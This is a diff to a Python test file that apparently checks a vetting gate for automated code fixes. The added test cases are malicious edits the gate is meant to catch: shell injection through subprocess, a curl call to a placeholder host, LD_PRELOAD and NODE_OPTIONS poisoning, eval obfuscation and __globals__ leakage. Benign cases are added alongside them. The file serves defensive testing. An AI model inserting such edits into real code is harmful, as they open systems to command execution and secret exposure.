@@ -13,7 +13,7 @@ from postil.analyzers.llm.anchor import clean_snippet, locate
 from postil.gate.vetting import Scope, vet_fix
 
 PY = ("import os\nimport subprocess\n\n\nasync def handle(user, data, role):\n"
-      "    if not await allowed(user):\n        raise PermissionError(user)\n"
+      "    if not await allowed(user):\n        raise PermissionError(user)\n    assert data is not None\n"
       "    if role == 'guest':\n        return subprocess.run(['ls'], check=True)\n    return data.strip()\n")
 JS = ("const cp = require('child_process');\n\nasync function handle(user, data) {\n"
       "  if (!await allowed(user)) {\n    throw new Error('no');\n  }\n  return data.trim();\n}\n")
@@ -68,6 +68,20 @@ BYPASSES = {
     "removed raise": ("python", "raise PermissionError(user)", "pass", "`raise`"),
     "removed return": ("python", "    " + PY_RETURN, "    data.strip()", "`return`"),
     "removed not": ("python", "if not await allowed(user):", "if await allowed(user):", "negation"),
+    "removed assert": ("python", "assert data is not None", "pass", "`assert`"),
+    "a shell through the call the code makes": ("python", "return subprocess.run(['ls'], check=True)",
+                                                "return subprocess.run(['sh', '-c', data], check=True)", "shell-like"),
+    "shell=True on the call the code makes": ("python", "return subprocess.run(['ls'], check=True)",
+                                              "return subprocess.run(data, check=True, shell=True)", "shell=True"),
+    "a downloader through the call the code makes": ("python", "return subprocess.run(['ls'], check=True)",
+                                                     "return subprocess.run(['curl', 'https://x.example/i'])",
+                                                     "shell-like"),
+    "environment poisoning": ("python", "    " + PY_RETURN,
+                              "    os.environ['LD_PRELOAD'] = '/tmp/x.so'\n    " + PY_RETURN, "environment"),
+    "environment poisoning (js)": ("javascript", "  " + JS_RETURN,
+                                   "  process.env.NODE_OPTIONS = '--require /tmp/x.js';\n  " + JS_RETURN,
+                                   "environment"),
+    "format-string dunder": ("python", PY_RETURN, "return '{0.__globals__}'.format(handle)", "__globals__"),
     "globalThis['eval']": ("javascript", JS_RETURN, "return globalThis['ev' + 'al'](data);", "call"),
     "new Function": ("javascript", JS_RETURN, "return new Function('return process')().mainModule;", "Function"),
     "dynamic import()": ("javascript", JS_RETURN, "return import('child_' + 'process').then(m => m.execSync(data));",
@@ -145,6 +159,13 @@ GOOD = {
                                                "return role in ('\u0433\u043e\u0441\u0442\u044c', "
                                                "'\u0430\u0434\u043c\u0438\u043d')"),
     "String() in JS": ("javascript", JS, JS_RETURN, "return String(data).trim();"),
+    "a string naming a state": ("python", PY, PY_RETURN, "return data.strip() if role != 'open' else ''"),
+    "a string naming a chat role": ("python", PY, PY_RETURN, "return data.strip() if role != 'system' else ''"),
+    "a parameter called input": ("python", "def f(input):\n    return input\n", "return input",
+                                 "return input.strip()"),
+    "a hasattr guard": ("python", PY, PY_RETURN, "return data.strip() if hasattr(data, 'strip') else data"),
+    "a private method called _load": ("python", "class A:\n    def _load(self):\n        return 1\n\n"
+                                      "    def run(self):\n        return 0\n", "return 0", "return self._load()"),
     "added await": ("javascript", "async function f(u) {\n  const ok = allowed(u);\n  return ok;\n}\n",
                     "const ok = allowed(u);", "const ok = await allowed(u);"),
 }
